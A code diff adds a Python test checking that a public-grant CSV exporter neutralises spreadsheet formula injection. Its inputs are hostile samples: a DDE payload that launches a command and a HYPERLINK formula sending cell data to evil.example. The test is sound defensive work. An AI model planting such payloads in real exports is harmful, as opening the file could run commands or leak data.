@@ -70,3 +70,13 @@ def test_csv_and_json_carry_the_same_cells():
     data = scdl.to_csv(rows)
     assert not data.startswith(b"\xef\xbb\xbf") and data.split(b"\r\n")[0] == ",".join(scdl.COLUMNS).encode()
     assert list(csv.DictReader(io.StringIO(data.decode()))) == json.loads(scdl.to_json(rows)) == rows
+
+
+def test_no_public_cell_typed_by_a_pole_starts_a_formula():
+    row = scdl.scdl_row(laureate(carrier_legal_name="@SUM(1+1)*cmd|' /C calc'!A0",
+                                 summary='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', reference="+DEC"),
+                        AWARDING)
+    assert row["nomBeneficiaire"] == "SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["objet"].startswith('HYPERLINK(') and row["referenceDecision"] == "DEC"
+    cells = [cell for line in csv.reader(io.StringIO(scdl.to_csv([row]).decode())) for cell in line]
+    assert not any(cell.startswith(tuple(scdl.FORMULA_STARTS)) for cell in cells)
